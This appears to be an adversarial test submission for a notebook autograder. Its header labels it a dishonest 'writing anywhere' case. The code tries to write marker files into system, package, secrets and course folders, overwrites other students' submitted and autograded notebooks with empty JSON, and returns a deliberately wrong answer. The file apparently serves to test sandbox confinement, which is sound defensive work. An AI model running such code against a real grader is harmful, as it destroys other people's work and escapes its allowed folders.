# class: writing anywhere
# tries: writes into the course, the gradebook's folder, other submissions, the home folder, the packages and the system
# honest: 0
# must not: write outside its own folders
# answers: wrong
# proof: ran
# %% mix
from pathlib import Path
note("RAN")
own = {os.path.realpath(path) for path in (os.getcwd(), "/tmp", "/dev/shm", os.environ.get("HOME", "/"))}
places = {*sys.path, sys.prefix, "/", "/etc", "/usr/lib", "/var/tmp", "/run", "/proc", "/sys", "/dev"}
places |= {os.path.dirname(path) for path in HOST["secrets"]} | {str(Path(HOST["source"]).parent)}
places |= {str(folder) for folder in Path.cwd().parents}
for place in sorted(place for place in places if os.path.realpath(place) not in own):
    target = os.path.join(place, HOST["mark"] + ".txt")
    try:
        with open(target, "w") as stream:
            stream.write(HOST["mark"])
        note("GOT a file written in " + place)
    except (OSError, ValueError):
        pass
for folder in Path.cwd().parents:
    for path in [*folder.glob("submitted/*/*/*.ipynb"), *folder.glob("autograded/*/*/*.ipynb")][:20]:
        if "attacker" not in str(path):
            try:
                path.write_text("{}")
                note("GOT another student's notebook overwritten")
            except OSError:
                pass

def mix(a, b):
    return torch.zeros(a.shape[0], b.shape[1])
